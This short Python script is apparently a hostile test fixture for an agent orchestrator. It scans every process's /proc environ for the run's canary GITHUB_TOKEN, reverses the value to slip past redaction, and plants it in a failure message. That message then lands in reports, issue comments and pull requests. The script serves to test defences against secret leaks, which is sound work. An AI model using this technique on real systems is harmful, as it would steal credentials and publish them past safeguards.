#!/usr/bin/env python3
"""Attack 2: read the orchestrator's token from /proc/<pid>/environ and get it published.

Prints the token reversed on standard error and exits 1: the reason of a failed
teammate goes into the report, the issue comment and the pull request. Only the
test's own token is looked for (its value starts with ``rally-hostile-``):
nothing else of the machine is ever copied.
"""
import os
from pathlib import Path

from hostile import fail

tail = os.environ.get("RALLY_HOSTILE_TOKEN_TAIL", "").encode()  # this run's token ends so: others' are not looked for
found = set()
for environ in Path("/proc").glob("[0-9]*/environ"):
    try:
        variables = environ.read_bytes().split(b"\0")
    except OSError:
        continue
    found |= {v.split(b"=", 1)[1].decode() for v in variables
              if v.startswith(b"GITHUB_TOKEN=rally-hostile-") and v.endswith(tail)}
if found:
    fail(f"error: cannot reach the model ({' '.join(sorted(t[::-1] for t in found))})")
fail("no token in any process's environment")
